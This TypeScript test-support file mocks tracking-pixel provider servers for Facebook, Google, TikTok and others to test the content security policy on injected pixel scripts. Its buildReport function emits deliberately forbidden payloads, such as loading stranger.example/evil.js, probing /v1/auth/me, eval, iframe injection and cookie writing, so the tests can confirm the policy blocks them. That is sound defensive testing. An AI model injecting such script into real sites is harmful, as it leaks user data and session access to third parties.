import { once } from 'node:events'
import { createServer, type IncomingMessage, type ServerResponse } from 'node:http'
import { createServer as createSecureServer } from 'node:https'
import type { AddressInfo } from 'node:net'
import { pixelHosts } from '../../src/modules/publishing/pixels/index.ts'
import { type PixelTypeName, pixelIds } from '../pixels/seed.ts'
import { localCertificate, localCertificateKey } from '../support/certificate.ts'

export const allTypes = Object.keys(pixelIds) as PixelTypeName[]

/** The hosts that the policy for a pixel names; a wildcard stands for one of its hosts. */
export const hostsOf = (type: PixelTypeName) => {
  const { script, img, connect } = pixelHosts[type]
  return [...script, ...img, ...connect].map((origin) => new URL(origin.replace('*', 'region1')).host)
}
export const providerHosts = [...new Set(allTypes.flatMap(hostsOf))]

/** What each provider asks for when its script runs; as a beacon, an image and further scripts do. */
export const reports: Readonly<Record<PixelTypeName, readonly [kind: 'img' | 'connect' | 'script', url: string]>> = {
  facebook: ['img', 'https://www.facebook.com/tr/'],
  googleAnalytics: ['connect', 'https://region1.google-analytics.com/g/collect'],
  googleTagManager: ['connect', 'https://www.googletagmanager.com/a'],
  googleAds: ['script', 'https://googleads.g.doubleclick.net/pagead/viewthroughconversion'],
  tiktok: ['connect', 'https://analytics.tiktok.com/api/v2/pixel'],
  linkedin: ['img', 'https://px.ads.linkedin.com/collect'],
  x: ['img', 'https://t.co/i/adsct'],
  pinterest: ['connect', 'https://ct.pinterest.com/v3/'],
  snapchat: ['connect', 'https://tr.snapchat.com/p'],
  reddit: ['img', 'https://alb.reddit.com/rp.gif'],
  bing: ['img', 'https://bat.bing.com/action/0'],
}

/** All hosts of providers and the destination, on one address. */
export class Providers {
  /** The addresses of the requests, without queries. */
  readonly seen: string[] = []
  /** Hosts that accept requests and never answer. */
  readonly hanging = new Set<string>()
  readonly answer: (request: IncomingMessage, response: ServerResponse) => void
  readonly #server
  readonly #site
  port = 0
  destination = ''

  constructor() {
    this.answer = (request, response) => {
      const { host = '' } = request.headers
      const url = new URL(request.url ?? '/', `https://${host}`)
      const name = host.replace(/:\d+$/, '')
      this.seen.push(`https://${name}${url.pathname}`)
      if (this.hanging.has(name)) return
      const type = allTypes.find((each) => this.#isLoader(each, name, url))
      const headers = { 'access-control-allow-origin': '*', 'cache-control': 'no-store' }
      if (!type) return void response.writeHead(204, headers).end()
      const script = type === 'bing' ? `${buildReport(type)};window.UET=class{push(){}}` : buildReport(type)
      response.writeHead(200, { ...headers, 'content-type': 'text/javascript' }).end(script)
    }
    this.#server = createSecureServer({ cert: localCertificate, key: localCertificateKey }, this.answer)
    this.#site = createServer((_request, response) =>
      response.writeHead(200, { 'content-type': 'text/html' }).end('<title>Shop</title><h1>The shop</h1>'),
    )
  }

  #isLoader(type: PixelTypeName, host: string, url: URL): boolean {
    const id = url.searchParams.get('id')
    if (type === 'googleAnalytics' || type === 'googleAds')
      return host === 'www.googletagmanager.com' && id === pixelIds[type]
    if (type === 'googleTagManager') return url.pathname === '/gtm.js'
    return pixelHosts[type].script.some((each) => each === `https://${host}`) && url.pathname.endsWith('.js')
  }

  async listen(): Promise<void> {
    this.#server.listen(0, '127.0.0.1')
    this.#site.listen(0, '127.0.0.1')
    await Promise.all([once(this.#server, 'listening'), once(this.#site, 'listening')])
    this.port = (this.#server.address() as AddressInfo).port
    this.destination = `http://localhost:${(this.#site.address() as AddressInfo).port}/shop?a=1`
  }

  async close(): Promise<void> {
    for (const server of [this.#server, this.#site]) {
      server.closeAllConnections()
      server.close()
      await once(server, 'close')
    }
  }
}

/** A script that does as the provider's, and also what its policy must prevent. */
function buildReport(type: PixelTypeName): string {
  const [kind, url] = reports[type]
  const asking = {
    img: (address: string) => `new Image().src='${address}'`,
    connect: (address: string) => `fetch('${address}',{method:'POST',keepalive:true,mode:'no-cors'})`,
    script: (address: string) =>
      `document.head.append(Object.assign(document.createElement('script'),{src:'${address}'}))`,
  }
  const forbidden = [
    asking.img('https://stranger.example/pixel.gif'),
    `fetch('/v1/auth/me').catch(()=>0)`,
    asking.script('https://stranger.example/evil.js'),
    `document.body.append(Object.assign(document.createElement('script'),{textContent:"new Image().src='https://stranger.example/inline'"}))`,
    `try{eval("new Image().src='https://stranger.example/eval'")}catch{}`,
    `document.body.append(Object.assign(document.createElement('iframe'),{src:'https://stranger.example/frame'}))`,
    `document.cookie='from_pixel=1'`,
  ]
  return [asking[kind](url), ...forbidden].join(';\n')
}
